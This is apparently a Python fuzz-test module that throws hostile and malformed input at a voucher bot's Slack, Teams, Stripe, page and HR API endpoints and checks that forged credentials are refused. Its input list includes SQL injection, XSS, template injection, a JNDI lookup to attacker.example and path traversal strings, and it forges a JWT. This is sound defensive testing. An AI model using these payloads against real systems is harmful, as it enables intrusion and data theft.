"""Bad input at every public endpoint of a running server: never a 5xx, never an unexpected
traceback.

Hypothesis generates the bodies: malformed JSON and forms, wrong content types, unicode, negative
and overflowing amounts, unknown product and order ids, injection strings in reasons and names.
Slack and Stripe requests are mostly signed correctly (to reach the code behind the signature check)
and sometimes forged (always refused). Requests run from a worker thread, so the fakes in the test's
event loop keep answering the bot while Hypothesis drives it. The HR API is fuzzed from its own
OpenAPI document when the server serves one.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any
from urllib.parse import quote, urlencode

import jwt
import pytest
import pytest_asyncio
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.slack import action_ids
from tests.e2e.bot_process import ROOT, BotProcess
from tests.e2e.world import TENANT, stripe_signature
from tests.faults.cluster import Cluster
from tests.localstripe_server import WEBHOOK_SECRET
from tests.slack.conftest import FIXTURES, SIGNING_SECRET, TEAM, sign
from tests.teams.conftest import fixture_activity

pytestmark = pytest.mark.asyncio(loop_scope="module")

SETTINGS = {"RATE_LIMIT_PER_MINUTE": "600", "RATE_LIMIT_BURST": "50"}
EXAMPLES = settings(
    max_examples=100,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
    derandomize=True,
)
TOO_BIG = 1024 * 1024 + 1
NASTY = [
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    '"><script>alert(1)</script>',
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "\x00\x01\x7f",
    "\u202eevil\u202c",
    "🎁" * 300,
    "Zoë Ångström 李小龍 محمد",
    '{"$ne": null}',
    "*bold* <!channel> <@U0ADA>",
    "a" * 5000,
]
AMOUNTS = st.one_of(
    st.sampled_from(
        ["-20", "0", "-0", "20.001", "1e309", "NaN", "inf", "0x14", "٢٠", "２０", "20,00", "£20"]
    ),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)
TEXT = st.one_of(st.sampled_from(NASTY), st.text(max_size=200))
PRODUCTS = st.one_of(
    st.sampled_from(["quiet-harbour-books", "lantern-tea", "no-such-product", ""]), TEXT
)
IDS = st.one_of(st.sampled_from(["ord_UNKNOWN0001", "", "rw_UNKNOWN"]), TEXT)
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats(allow_nan=False) | TEXT,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=12,
)
CONTENT_TYPES = st.sampled_from(
    [
        "application/json",
        "application/x-www-form-urlencoded",
        "text/plain",
        "multipart/form-data",
        "",
        "application/xml",
    ]
)
RAW_BODIES = st.one_of(
    st.binary(max_size=400), TEXT.map(str.encode), JSON_VALUES.map(lambda v: json.dumps(v).encode())
)


@pytest.fixture(scope="module")
def backend() -> str:
    """Bad input does not depend on the database: one SQLite replica is enough."""
    return "sqlite"


class Server:
    """Synchronous requests to one replica, for Hypothesis (which runs in a worker thread)."""

    def __init__(self, base_url: str, hooks_url: str) -> None:
        self.base_url = base_url
        self.hooks_url = hooks_url  # where Slack response_urls in generated payloads point
        self.session = requests.Session()
        self.seen: list[tuple[str, int]] = []

    def send(
        self,
        method: str,
        path: str,
        body: bytes = b"",
        headers: dict[str, str] | None = None,
        *,
        allow: int = 0,
    ) -> int:
        """The status of one request; any 5xx (but `allow`) fails the test."""
        response = self.session.request(
            method, self.base_url + path, data=body, headers=headers, timeout=30
        )
        status = response.status_code
        self.seen.append((path, status))
        assert status < 500 or status == allow, (
            f"{method} {path} answered {status}: {response.text[:300]}"
        )
        return status


async def in_thread(cluster: Cluster, work: Callable[[Server], None]) -> Server:
    server = Server(cluster.replicas[0].url, f"{cluster.platforms.slack_proxy.url}/hooks/fuzz")
    try:
        await asyncio.to_thread(work, server)
    finally:
        server.session.close()
    return server


# --- Stripe
# ----------------------------------------------------------------------------------------------


def stripe_events() -> st.SearchStrategy[dict[str, Any]]:
    intent = st.fixed_dictionaries(
        {
            "id": st.one_of(st.just("pi_unknown"), TEXT),
            "object": st.just("payment_intent"),
            "amount": st.one_of(*[st.integers(-(2**70), 2**70)] * 3, TEXT, st.none()),
            "currency": st.one_of(*[st.sampled_from(["gbp", "usd", "jpy", "xxx", ""])] * 3, TEXT),
            "metadata": st.one_of(st.fixed_dictionaries({"order_id": IDS}), JSON_VALUES),
        },
        optional={
            "last_payment_error": JSON_VALUES,
            "payment_intent": TEXT,
            "refunded": st.booleans(),
        },
    )
    return st.fixed_dictionaries(
        {
            "id": st.text(min_size=1, max_size=40),
            "object": st.just("event"),
            "type": st.sampled_from(
                [
                    "payment_intent.succeeded",
                    "payment_intent.payment_failed",
                    "charge.refunded",
                    "customer.created",
                ]
            ),
            "data": st.one_of(st.fixed_dictionaries({"object": intent}), JSON_VALUES),
        }
    )


def fuzz_stripe(server: Server) -> None:
    @EXAMPLES
    @given(
        event=st.one_of(
            stripe_events(), stripe_events(), stripe_events(), JSON_VALUES
        ),  # mostly events
        forged=st.booleans(),
        raw=st.one_of(st.none(), st.none(), st.none(), RAW_BODIES),
    )
    def run(event: Any, forged: bool, raw: bytes | None) -> None:
        body = raw if raw is not None else json.dumps(event).encode()
        secret = "whsec_guessed_by_an_attacker" if forged else WEBHOOK_SECRET
        status = server.send(
            "POST", "/stripe/webhook", body, {"Stripe-Signature": stripe_signature(body, secret)}
        )
        if forged:
            assert status == 400, "a forged Stripe signature was accepted"

    run()


async def test_stripe_webhook_survives_any_body_and_refuses_every_forged_signature(
    cluster: Cluster,
) -> None:
    server = await in_thread(cluster, fuzz_stripe)
    assert len(server.seen) >= 60


# --- Slack
# -----------------------------------------------------------------------------------------------

ACTION_IDS = sorted(v for k, v in vars(action_ids).items() if k.isupper() and isinstance(v, str))


def slack_command(command: str, text: str, user: str, hooks: str) -> str:
    return urlencode(
        {
            "token": "x",
            "team_id": TEAM,
            "team_domain": "voucherbot",
            "channel_id": "C0FUZZ",
            "channel_name": "fuzz",
            "user_id": user,
            "user_name": "fuzzy",
            "command": command,
            "text": text,
            "api_app_id": "A0VB",
            "response_url": hooks,
            "trigger_id": f"trig-{time.monotonic_ns()}",
        }
    )


def slack_interaction(
    kind: str, action_id: str, value: str, user: str, state: dict[str, Any], hooks: str
) -> str:
    """An interaction payload shaped as Slack sends it (a signed request is from Slack), values
    fuzzed."""
    payload = json.loads(
        (FIXTURES / "payloads" / "block_actions.button.bolt_python.json").read_text()
    )
    payload.update(type=kind, team={"id": TEAM, "domain": "voucherbot"}, api_app_id="A0VB")
    payload["user"] = {"id": user, "username": "fuzzy", "name": "fuzzy", "team_id": TEAM}
    payload["response_url"] = hooks
    payload["actions"] = [
        {
            "type": "button",
            "action_id": action_id,
            "block_id": "b",
            "value": value,
            "action_ts": "1.2",
        }
    ]
    payload["state"] = {"values": state}
    if kind == "view_submission":
        payload["view"] = {
            "id": "V0FUZZ",
            "type": "modal",
            "callback_id": action_id,
            "state": {"values": state},
            "private_metadata": value,
            "blocks": [],
        }
    if kind == "block_suggestion":
        payload.update(action_id=action_id, block_id="b", value=value)
    return urlencode({"payload": json.dumps(payload)})


def slack_state() -> st.SearchStrategy[dict[str, Any]]:
    """state.values as Slack shapes it: block id -> action id -> a typed input value."""
    element = st.one_of(
        st.builds(
            lambda v: {"type": "plain_text_input", "value": v}, st.one_of(TEXT, AMOUNTS, st.none())
        ),
        st.builds(
            lambda v: {"type": "static_select", "selected_option": {"value": v}},
            st.one_of(TEXT, AMOUNTS),
        ),
        st.builds(
            lambda v: {"type": "multi_users_select", "selected_users": v},
            st.lists(TEXT, max_size=3),
        ),
    )
    ids = st.one_of(st.sampled_from(ACTION_IDS), TEXT)
    return st.dictionaries(ids, st.dictionaries(ids, element, max_size=2), max_size=3)


def signed_slack_bodies(hooks: str) -> st.SearchStrategy[str]:
    user = st.from_regex(r"U[A-Z0-9]{8}", fullmatch=True)
    commands = st.builds(
        slack_command,
        st.sampled_from(["/vouchers", "/vouchers", "/reward", "/reward", "/unknown"]),
        st.one_of(TEXT, st.builds(lambda p, a: f"buy {p} {a}", PRODUCTS, AMOUNTS), st.just("mine")),
        user,
        st.just(hooks),
    )
    interactions = st.builds(
        slack_interaction,
        st.sampled_from(["block_actions", "view_submission", "block_suggestion"]),
        st.one_of(st.sampled_from(ACTION_IDS), st.sampled_from(ACTION_IDS), TEXT),
        st.one_of(TEXT, AMOUNTS, st.builds(lambda p, a: f"{p}|{a}", PRODUCTS, AMOUNTS)),
        user,
        slack_state(),
        st.just(hooks),
    )
    return st.one_of(commands, interactions)


def any_slack_bodies(hooks: str) -> st.SearchStrategy[str]:
    return st.one_of(signed_slack_bodies(hooks), st.text(max_size=300), JSON_VALUES.map(json.dumps))


def fuzz_slack(server: Server) -> None:
    @EXAMPLES
    @given(
        signed_body=signed_slack_bodies(server.hooks_url),
        forged_body=any_slack_bodies(server.hooks_url),
        forged=st.sampled_from([None, None, "secret", "stale"]),
        content_type=CONTENT_TYPES,
    )
    def run(signed_body: str, forged_body: str, forged: str | None, content_type: str) -> None:
        if forged is None:
            headers = {"Content-Type": "application/x-www-form-urlencoded", **sign(signed_body)}
            server.send("POST", "/slack/events", signed_body.encode(), headers)
            return
        secret = "not-the-signing-secret" if forged == "secret" else SIGNING_SECRET
        stale = int(time.time()) - 600 if forged == "stale" else None
        headers = {"Content-Type": content_type, **sign(forged_body, stale, secret)}
        status = server.send("POST", "/slack/events", forged_body.encode(), headers)
        assert status in (400, 401), f"a request with a {forged} signature was answered {status}"

    run()


async def test_slack_endpoint_survives_any_payload_and_refuses_every_forged_signature(
    cluster: Cluster,
) -> None:
    server = await in_thread(cluster, fuzz_slack)
    assert len(server.seen) >= 60


# --- Teams
# -----------------------------------------------------------------------------------------------


def teams_activity(
    kind: str, text: str, value: Any, name: str, user: str, service_url: str
) -> dict[str, Any]:
    activity = fixture_activity("message.personal.botbuilder_js_recording")
    activity.update(
        type=kind,
        id=f"fuzz-{time.monotonic_ns()}",
        serviceUrl=service_url,
        conversation={**activity["conversation"], "id": f"a:fuzz-{user}", "tenantId": TENANT},
        channelData={"tenant": {"id": TENANT}},
    )
    activity["from"] = {"id": f"29:{user}", "name": "Fuzzy", "aadObjectId": user}
    if text:
        activity["text"] = text
    else:
        activity.pop("text", None)
        activity["value"] = value
    if kind == "invoke":
        activity["name"] = name
        activity["value"] = {
            "action": {"type": "Action.Execute", "data": value},
            "data": value,
            "context": {},
        }
    return activity


def teams_bodies(service_url: str) -> st.SearchStrategy[bytes]:
    values = st.one_of(
        JSON_VALUES,
        st.fixed_dictionaries(
            {
                "cmd": st.one_of(
                    st.sampled_from(["buy", "choose", "browse", "retry", "pay", "mine", "help"]),
                    TEXT,
                )
            },
            optional={
                "product": PRODUCTS,
                "amount": AMOUNTS,
                "order": IDS,
                "page": JSON_VALUES,
                "reward": IDS,
            },
        ),
    )
    activities = st.builds(
        teams_activity,
        st.sampled_from(["message", "invoke", "conversationUpdate", "messageReaction", "nonsense"]),
        st.one_of(
            st.just(""),
            TEXT,
            st.builds(lambda t: f"vouchers {t}", TEXT),
            st.builds(lambda t: f"reward {t}", TEXT),
        ),
        values,
        st.sampled_from(
            [
                "adaptiveCard/action",
                "task/fetch",
                "task/submit",
                "composeExtension/submitAction",
                "x",
            ]
        ),
        st.uuids().map(str),
        st.just(service_url),
    )
    return st.one_of(activities.map(lambda a: json.dumps(a).encode()), RAW_BODIES)


def fuzz_teams(service_url: str) -> Callable[[Server], None]:
    def fuzz(server: Server) -> None:
        @EXAMPLES
        @given(
            body=teams_bodies(service_url),
            content_type=st.one_of(st.just("application/json"), CONTENT_TYPES),
        )
        def run(body: bytes, content_type: str) -> None:
            # Bot Framework's answer to an invoke a bot does not handle is 501, by protocol (not a
            # failure).
            server.send("POST", "/api/messages", body, {"Content-Type": content_type}, allow=501)

        run()

    return fuzz


async def test_teams_endpoint_survives_any_activity(cluster: Cluster) -> None:
    server = await in_thread(cluster, fuzz_teams(cluster.platforms.teams_proxy.url + "/"))
    assert len(server.seen) >= 60


# --- checkout page, health, metrics, static files
# ---------------------------------------------------------


def fuzz_pages(server: Server) -> None:
    paths = st.one_of(
        st.builds(lambda t: f"/checkout/{quote(t, safe='')}", TEXT.filter(bool)),
        st.builds(lambda t: f"/checkout/{quote(t, safe='')}/status", TEXT.filter(bool)),
        st.builds(lambda t: f"/static/brands/{quote(t, safe='')}", TEXT.filter(bool)),
        st.builds(lambda t: f"/static/checkout/{quote(t)}", TEXT.filter(bool)),
        st.sampled_from(
            ["/", "/healthz", "/metrics", "/checkout/", "/static/brands/../../bot/settings.py"]
        ),
    )

    @EXAMPLES
    @given(
        path=paths,
        method=st.sampled_from(["GET", "GET", "GET", "HEAD", "POST", "DELETE", "OPTIONS"]),
    )
    def run(path: str, method: str) -> None:
        server.send(method, path)

    run()


async def test_pages_health_metrics_and_static_files_survive_any_path_and_method(
    cluster: Cluster,
) -> None:
    server = await in_thread(cluster, fuzz_pages)
    assert len(server.seen) >= 60


# --- the HR API, from its OpenAPI document
# ---------------------------------------------------------------


def operations(document: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Every operation but the public document itself."""
    for path, item in (document.get("paths") or {}).items():
        for method in item:
            if method.lower() in ("get", "post", "put", "patch", "delete") and not path.endswith(
                "openapi.json"
            ):
                yield method.upper(), path


def header_value(text: str) -> str:
    """What an HTTP client can put in a header at all: latin-1, no line breaks, no leading space."""
    return (
        text.encode("latin-1", "replace")
        .decode("latin-1")
        .replace("\r", " ")
        .replace("\n", " ")
        .strip()
    )


def hr_bodies() -> st.SearchStrategy[bytes]:
    """Bodies shaped like the document's RewardRequest and EmployeeImport, with hostile values; or
    junk."""
    recipient = st.one_of(
        st.fixed_dictionaries({"email": st.one_of(st.emails(), TEXT)}),
        st.fixed_dictionaries({"platform": st.just("slack"), "user_id": TEXT, "team_id": TEXT}),
        st.fixed_dictionaries({"platform": st.just("teams"), "user_id": TEXT, "tenant_id": TEXT}),
        JSON_VALUES,
    )
    reward = st.fixed_dictionaries(
        {"recipients": st.lists(recipient, max_size=4), "amount": AMOUNTS, "reason": TEXT},
        optional={
            "currency": st.sampled_from(["USD", "GBP", "XXX", "usd", "€"]),
            "programme": TEXT,
        },
    )
    employee = st.fixed_dictionaries(
        {
            "email": st.one_of(st.emails(), TEXT),
            "name": TEXT,
            "start_date": st.one_of(st.dates().map(str), TEXT),
        },
        optional={"birthday": TEXT, "platform": TEXT, "user_id": TEXT, "tenant": TEXT},
    )
    employees = st.fixed_dictionaries(
        {"employees": st.lists(st.one_of(employee, JSON_VALUES), max_size=4)}
    )
    return (
        st.one_of(reward, reward, employees, JSON_VALUES).map(lambda v: json.dumps(v).encode())
        | RAW_BODIES
    )


def fuzz_hr_api(document: dict[str, Any], api_key: str) -> Callable[[Server], None]:
    known = list(operations(document))

    def fuzz(server: Server) -> None:
        @EXAMPLES
        @given(
            operation=st.sampled_from(known),
            body=hr_bodies(),
            query=st.dictionaries(
                st.sampled_from(["days", "limit", "x"]), st.one_of(AMOUNTS, TEXT), max_size=2
            ),
            token=st.one_of(st.just(api_key), st.just(api_key), st.none(), TEXT),
            key=st.one_of(st.none(), TEXT),
        )
        def run(
            operation: tuple[str, str],
            body: bytes,
            query: dict[str, str],
            token: str | None,
            key: str | None,
        ) -> None:
            method, path = operation
            headers = {"Content-Type": "application/json"}
            if token is not None:
                headers["Authorization"] = header_value(f"Bearer {token}")
            if key is not None:
                headers["Idempotency-Key"] = header_value(key)
            target = path + ("?" + urlencode(query) if query else "")
            status = server.send(method, target, body if method != "GET" else b"", headers)
            if (
                token != api_key
            ):  # refused by the API (401), or by the HTTP parser for header bytes (400)
                assert status in (400, 401), (
                    f"an unauthenticated {method} {path} was answered {status}"
                )

        run()

    return fuzz


async def create_api_key(cluster: Cluster) -> str:
    """`voucherbot apikeys create`, as an operator would run it against the cluster's database."""
    replica = cluster.replicas[0]
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot.cli",
        "apikeys",
        "create",
        "fuzzing-hr-system",
        cwd=str(replica.data_dir),
        env={**replica.env, "PYTHONPATH": str(ROOT)},
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(process.communicate(), 60)
    assert process.returncode == 0, err.decode()[-2000:]
    return out.decode().split()[0]


async def test_hr_api_refuses_bad_requests_without_a_server_error(cluster: Cluster) -> None:
    answer = await cluster.request("GET", "/api/v1/openapi.json")
    if answer.status != 200:
        pytest.skip("this server has no HR API (no /api/v1/openapi.json)")
    api_key = await create_api_key(cluster)
    server = await in_thread(cluster, fuzz_hr_api(answer.json(), api_key))
    assert len(server.seen) >= 60
    assert {status for _, status in server.seen} - {401}, "no request got past authentication"


# --- Teams with authentication on
# ------------------------------------------------------------------------

APP_ID = "00000000-0000-4000-8000-00000000fa11"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def authenticated_bot(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[BotProcess]:
    """A server with a Bot Framework app id: Teams requests must carry a valid JWT."""
    env = {"MICROSOFT_APP_ID": APP_ID, "MICROSOFT_APP_PASSWORD": "never-used-offline"}
    bot = await BotProcess(tmp_path_factory.mktemp("teams-auth"), env).start()
    yield bot
    assert await bot.stop() == 0


def forged_jwt() -> str:
    claims = {"iss": "https://api.botframework.com", "aud": APP_ID, "exp": int(time.time()) + 600}
    return jwt.encode(
        claims,
        "an attacker's own key, long enough for HS256",
        algorithm="HS256",
        headers={"kid": "x"},
    )


@pytest.mark.parametrize(
    "authorization",
    [
        None,
        "Bearer not-a-token",
        "Basic YWRtaW46YWRtaW4=",
        "forged",
    ],
)
async def test_teams_refuses_activities_without_a_valid_token(
    authenticated_bot: BotProcess, authorization: str | None, cluster: Cluster
) -> None:
    activity = fixture_activity("message.personal.botbuilder_js_recording")
    headers = {"Content-Type": "application/json"}
    if authorization is not None:
        headers["Authorization"] = (
            f"Bearer {forged_jwt()}" if authorization == "forged" else authorization
        )
    async with cluster.http.post(
        f"{authenticated_bot.url}/api/messages", data=json.dumps(activity), headers=headers
    ) as response:
        assert response.status == 401


# --- sizes, rate limits, and what the log says
# -------------------------------------------------------------


@pytest.mark.parametrize("path", ["/stripe/webhook", "/slack/events", "/api/messages"])
async def test_a_body_over_one_megabyte_is_refused_with_413(cluster: Cluster, path: str) -> None:
    huge = b'{"a": "' + b"x" * TOO_BIG + b'"}'
    answer = await cluster.post(
        path, huge, {"Content-Type": "application/json", **sign(huge.decode())}
    )
    assert answer.status == 413


async def test_a_huge_body_without_credentials_is_refused_before_it_is_read(
    cluster: Cluster,
) -> None:
    huge = b'{"a": "' + b"x" * TOO_BIG + b'"}'
    answer = await cluster.post("/api/v1/rewards", huge, {"Content-Type": "application/json"})
    assert answer.status in (401, 404, 413)  # the HR API checks its key first (404: no HR API here)


async def test_no_replica_logged_an_unexpected_error(cluster: Cluster) -> None:
    assert cluster.unhandled_errors() == []
